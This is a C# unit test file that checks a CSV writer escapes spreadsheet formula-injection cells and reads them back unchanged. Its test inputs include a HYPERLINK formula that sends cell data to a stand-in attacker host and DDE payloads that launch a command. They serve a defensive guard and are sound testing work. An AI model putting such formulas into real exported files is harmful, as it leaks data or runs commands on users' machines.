using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using Rapport.Reviews.Extraction;

namespace Rapport.Reviews.Tests.Extraction;

/// <summary>No cell that Rapport writes is run by a spreadsheet, and all are read back as they were.</summary>
public sealed partial class FormulaGuardTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example?\"&A1,\"look\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("- none reported")]
    [InlineData("--")]
    [InlineData("＝1+1")]
    [InlineData("'=1+1")]
    [InlineData("''@x")]
    public void A_cell_that_would_be_run_is_guarded_and_reads_back(string text)
    {
        var written = TableWriter.Cell(text);

        Assert.StartsWith("\"'", written, StringComparison.Ordinal);
        Assert.Equal(text, Assert.Single(Read(Written(text))));
    }

    [Theory]
    [InlineData("-0.42")]
    [InlineData("-0,42")]
    [InlineData("+1.5e-3")]
    [InlineData("-12")]
    [InlineData("−0.42")]
    [InlineData("0.42")]
    [InlineData("'t Hooft 1999")]
    [InlineData("O'Brien = 2")]
    [InlineData("'")]
    public void Numbers_and_ordinary_text_are_not_touched(string text)
    {
        Assert.Equal(text, TableWriter.Cell(text).Trim('"'));
        Assert.Equal(text, Assert.Single(Read(Written(text))));
    }

    [Fact]
    public void Negative_numbers_stay_numbers()
    {
        Table table = TableReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(Written("-0.42", "-1e-5", "+3"))), "t.csv").Value;

        Assert.Equal([-0.42, -1e-5, 3], RoleNumbers.Read(table, table.Columns[0], [1, 2, 3], null).Value);
    }

    /// <summary>Seeded: the outcome is the same each time.</summary>
    [Fact]
    public void Whatever_is_written_reads_back_and_begins_with_nothing_that_is_run()
    {
        const string Signs = "=+-@'＝ a1.,;\"\n\t\r";
        for (int seed = 1; seed <= 5000; seed++)
        {
            Random random = new(seed);
            string text = string.Concat(Enumerable.Range(0, random.Next(1, 9)).Select(_ => Signs[random.Next(Signs.Length)])).Trim();
            if (text is "" or ".")
            {
                continue;
            }

            string written = TableWriter.Cell(text);
            bool number = NumberCell.TryRead(text, true, out _) || NumberCell.TryRead(text, false, out _);
            Assert.True(number || !Run().IsMatch(written), $"{seed}: {written}");
            Assert.Equal((seed, text), (seed, Assert.Single(Read(Written(text)))));
        }
    }

    [Fact]
    public void A_name_of_a_column_is_a_cell_as_well()
    {
        StringWriter text = new(CultureInfo.InvariantCulture);
        TableWriter.Write(text, [new Column("=cmd()", ["1"])]);

        Assert.Equal("\"'=cmd()\"\n1\n", text.ToString());
        Assert.Equal("=cmd()", TableReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(text.ToString())), "t.csv").Value.Columns[0].Name);
    }

    private static string Written(params string[] cells)
    {
        StringWriter text = new(CultureInfo.InvariantCulture);
        // A second column makes the delimiter sure whatever stands in the first.
        TableWriter.Write(text, [new Column("a", [.. cells]), new Column("b", [.. cells.Select(_ => "x")])]);
        return text.ToString();
    }

    private static string?[] Read(string text) => [.. TableReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(text)), "t.csv").Value.Columns[0].Cells];

    [GeneratedRegex("^\"?[=+\\-@\t\r\n＝＋－＠]")]
    private static partial Regex Run();
}
